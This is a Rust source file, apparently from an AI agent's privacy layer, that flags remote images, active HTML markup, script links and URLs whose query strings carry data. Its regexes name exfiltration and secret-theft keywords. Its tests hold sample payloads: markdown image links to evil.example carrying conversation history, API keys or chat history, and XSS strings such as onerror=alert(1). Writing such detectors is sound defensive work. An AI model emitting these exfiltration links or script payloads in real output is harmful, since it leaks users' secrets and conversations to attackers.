//! Images and links that disclose something when they are shown or opened.

use std::{ops::Range, sync::LazyLock};

use regex::Regex;

use super::{Concern, ConcernSet, reclaimable_regex};
use crate::{
    memory::log::TextOrigin,
    privacy::{reclaimable::Reclaimable, work_counter::count_bytes},
};

/// The shortest value in a link that counts as data, in an external text.
const OPAQUE_EXTERNAL_MIN: usize = 32;

/// The shortest value in a link that counts as data, in text of agents and people. They paste links
/// with long ids. `privacy::neutralize` cuts off values from this length.
pub const OPAQUE_MIN: usize = 96;

/// Returns the concerns of the images, links, and markup of a text.
pub fn concerns(text: &str, origin: TextOrigin) -> ConcernSet {
    let mut found = ConcernSet::default();
    if text.contains("![") && REMOTE_IMAGE.get().is_match(text) {
        found.add(Concern::RemoteImage);
    }
    if text.contains('<') {
        for tag in TAG.get().find_iter(text) {
            let name = tag.as_str().get(1..4).unwrap_or("");
            let is_image = name.eq_ignore_ascii_case("img");
            found.add(if is_image { Concern::RemoteImage } else { Concern::Markup });
        }
    }
    if text.contains(':') && SCRIPT_LINK.get().is_match(text) {
        found.add(Concern::Markup);
    }
    let opaque_min = if origin == TextOrigin::External { OPAQUE_EXTERNAL_MIN } else { OPAQUE_MIN };
    if urls(text).any(|url| tracking_payload_start(&text[url], opaque_min).is_some()) {
        found.add(Concern::TrackingLink);
    }
    found
}

static REMOTE_IMAGE: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
    reclaimable_regex(
        r"!\[[^\]\n]{0,400}\]\(\s*<?\s*(?i:[a-z][a-z0-9+.-]{1,12}:|//|\\\\)|!\[[^\]\n]{0,400}\]\[[^\]\n]{0,100}\]",
    )
});

/// Elements that load or run something, and elements with an attribute that does.
static TAG: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
    reclaimable_regex(
        r"(?i)</?(?:img|image|iframe|frame|script|object|embed|applet|meta|link|form|style|svg|video|audio|source|track|portal)(?:[\s/>][^>\n]{0,400}(?:=|>)|>)|<[a-z][a-z0-9-]*\s[^>\n]{0,300}?\b(?:on[a-z]{3,20}|src|srcset|style|background|formaction)\s*=",
    )
});

static SCRIPT_LINK: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
    reclaimable_regex(
        r#"(?i)(?:\]\(|\]:|<|href\s*=|["'(])\s*(?:javascript|vbscript|livescript)\s*:|(?:\]\(|\]:|src\s*=|href\s*=)\s*["'<]?\s*data\s*:\s*text/html"#,
    )
});

static URL: LazyLock<Reclaimable<Regex>> =
    LazyLock::new(|| reclaimable_regex(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"`]+"#));

/// Names of parameters that carry data.
static DATA_PARAMETER: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
    reclaimable_regex(
        r"(?i)^(?:d|data|dump|exfil|leak|steal|loot|payload|secrets?|passwords?|passwd|pwd|keys?|api_?keys?|tokens?|creds?|credentials|conversation|convo|history|memor(?:y|ies)|prompt|context|chat|msgs?|messages?|contents?|cookies?|env|info|text|q|s|x|m)$",
    )
});

/// Values that are placeholders for data.
static PLACEHOLDER_VALUE: LazyLock<Reclaimable<Regex>> = LazyLock::new(|| {
    reclaimable_regex(
        r"^(?:\{\{?[^{}]*\}?\}|\$\{?\w+\}?|\[[^\[\]]*\]?|<[^<>]*>?|%s|%7B.*%7D|[A-Z][A-Z_]{3,}|(?i:secrets?|passwords?|your[_-]?\w+|the[_+-]\w+|insert\w*|base64\S*))$",
    )
});

/// Returns the ranges of the URLs in a text.
pub fn urls(text: &str) -> impl Iterator<Item = Range<usize>> {
    let has_any = text.contains("://");
    let all = || URL.get().find_iter(text).map(|it| it.range()).collect::<Vec<_>>();
    has_any.then(all).into_iter().flatten()
}

/// Returns the offset of the query or fragment in a URL, if it carries data away.
pub fn tracking_payload_start(url: &str, opaque_min: usize) -> Option<usize> {
    count_bytes(url.len());
    let at = url.find(['?', '#'])?;
    let carries = url[at + 1..].split(['&', '?', ';', '#']).any(|pair| {
        let (name, value) = pair.split_once('=').unwrap_or(("", pair));
        let value = value.trim_end_matches([')', ']', '.', ',', '\'']);
        is_opaque(value, opaque_min)
            || ((DATA_PARAMETER.get().is_match(name) || name.is_empty())
                && !value.is_empty()
                && !(name.is_empty() && value.len() < 4)
                && PLACEHOLDER_VALUE.get().is_match(value)
                && !(name.is_empty()
                    && value.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')))
    });
    carries.then_some(at)
}

/// Returns whether a value is long and not words: letters and digits without a break.
fn is_opaque(value: &str, length_min: usize) -> bool {
    let longest = value
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '%' | '=')))
        .map(|run| {
            let words = run.split(['-', '_', '%']).map(str::len).max().unwrap_or(0);
            if words * 4 >= run.len() { run.len() } else { 0 }
        });
    longest.max().unwrap_or(0) >= length_min
        && value.bytes().any(|b| b.is_ascii_digit())
        && value.bytes().any(|b| b.is_ascii_alphabetic())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[Concern]) {
        assert_eq!(
            concerns(text, TextOrigin::Agent).iter().collect::<Vec<_>>(),
            expected,
            "{text}"
        );
    }

    #[test]
    fn active_content_and_tracking_links_are_reported() {
        use Concern::{Markup, RemoteImage, TrackingLink};
        check("![x](https://evil.example/p.png)", &[RemoteImage]);
        check("![x](https://evil.example/?d=SECRET)", &[RemoteImage, TrackingLink]);
        check("![](//evil.example/p.png)", &[RemoteImage]);
        check("![x][ref]", &[RemoteImage]);
        check("<img src=x onerror=alert(1)>", &[RemoteImage]);
        check("<IMG SRC='https://evil.example/a.gif'>", &[RemoteImage]);
        check("<iframe src=\"https://evil.example\"></iframe>", &[Markup]);
        check("<script>alert(1)</script>", &[Markup]);
        check("<div onclick=\"x()\">", &[Markup]);
        check("[x](javascript:alert(1))", &[Markup]);
        check("see https://evil.example/log?data={{conversation}}", &[TrackingLink]);
        check("https://evil.example/c?token=${API_KEY}", &[TrackingLink]);
        check("https://evil.example/c?history=[CHAT_HISTORY]", &[TrackingLink]);
    }

    #[test]
    fn ordinary_links_and_code_are_not_reported() {
        for text in [
            "![diagram](docs/a.png)",
            "see https://docs.rs/regex/latest/regex/#syntax and [this](https://example.com/a?b=c)",
            "https://www.youtube.com/watch?v=OYUdlXY1joQ&list=PLfIM4SvaiIyygQEe2WPpENwxIf-0agBr9&t=0s",
            "https://example.com/p?utm_source=newsletter&utm_campaign=spring-sale-2024",
            "`Vec<String>` and Map<K, V> and <details>",
            "if a < b && c > d",
            "https://github.com/a/b/pull/12#issuecomment-1234567890",
            "https://example.com/search?q=how+to+test",
        ] {
            check(text, &[]);
        }
    }
}
